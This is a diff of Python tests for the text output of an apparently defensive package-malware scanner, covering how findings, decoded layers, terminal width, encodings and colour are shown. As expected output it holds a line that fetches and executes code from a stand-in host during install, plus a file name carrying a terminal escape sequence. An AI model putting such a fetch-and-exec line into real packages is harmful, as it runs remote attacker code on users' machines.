@@ -54,20 +54,59 @@ def test_a_package_cannot_steer_the_terminal(form: Format) -> None:
 
 
 def test_text_shows_everything_that_a_person_needs() -> None:
-    """Verdict, place, code, layers, flow and phase of a finding are all there, and a sum at the end."""
+    """Verdict, score, place, code, layers, flow and phase of a finding are all there, and a sum at the end."""
     text = _render(Format.TEXT, report(finding()), report())
     for part in (
         "MALICIOUS",
-        "dist/example_pkg-1.0.tar.gz",
-        "made-up",
-        r"setup.py\x1b[2J:3",
-        "exec(get('https://files.example.invalid/x').text)",
+        "dist/example_pkg-1.0.tar.gz  score 0.99",
+        "critical  made-up  second-stage · high confidence · proven chain",
+        r"setup.py\x1b[2J  (line 3 of what its layers hide)",
+        "3 │ exec(get('https://files.example.invalid/x').text)",
         "base64 → zlib",
-        "get (line 2) → exec (line 3)",
-        "when it is installed",
+        "get  (line 2)\n            → exec  (line 3)",
+        "runs when it is installed",
         "2 artifacts, 4.0 KiB: 1 malicious, 1 clean",
     ):
         assert part in text
+
+
+def test_text_says_what_the_attacker_gains_once() -> None:
+    """The consequence is the rule's own sentence, and a rule that fires twice does not repeat it."""
+    text = _render(Format.TEXT, report(finding(rule="look-alike", line=1), finding(rule="look-alike", line=2)))
+    assert text.count("People install it by mistake.") == 1
+
+
+@pytest.mark.parametrize("columns", ["24", "40", "80", "400"])
+def test_text_keeps_within_the_terminal(columns: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """No line is longer than the terminal or than 120 columns, and nothing is cut off to make it so."""
+    monkeypatch.setenv("COLUMNS", columns)
+    path = "/".join(f"a_rather_long_folder_name_{n}" for n in range(9))
+    text = _render(Format.TEXT, report(finding(path=path, layers=())))
+    assert max(len(line) for line in text.splitlines()) <= min(int(columns), 120)
+    assert path in text.replace("\n", "").replace(" ", "")
+
+
+@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp437", "utf-8"])
+def test_text_can_be_shown_by_any_terminal(encoding: str) -> None:
+    """A terminal without arrows or a package full of signs it lacks is no reason to fail."""
+    binary = io.BytesIO()
+    stream = io.TextIOWrapper(binary, encoding=encoding, newline="\n")
+    out = renderer(Format.TEXT, stream)
+    out.write(Outcome(target="dist/東京.whl", report=report(finding(message="café → 東京"))))
+    out.finish([])
+    stream.flush()
+    text = binary.getvalue().decode(encoding)
+    assert ("→" in text) == (encoding == "utf-8")
+    assert "base64 -> zlib" in text or "base64 → zlib" in text
+
+
+@pytest.mark.parametrize(("variable", "coloured"), [("NO_COLOR", False), ("FORCE_COLOR", True)])
+def test_colour_is_the_readers_choice(variable: str, coloured: bool, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: FBT001
+    """`NO_COLOR` and `FORCE_COLOR` decide; a stream that is no terminal has no colour by itself."""
+    monkeypatch.setenv("TERM", "xterm-256color")
+    monkeypatch.setenv(variable, "1")
+    text = _render(Format.TEXT, report())
+    assert ("\x1b[" in text) == coloured
 
 
 def test_text_says_why_something_was_not_inspected() -> None:
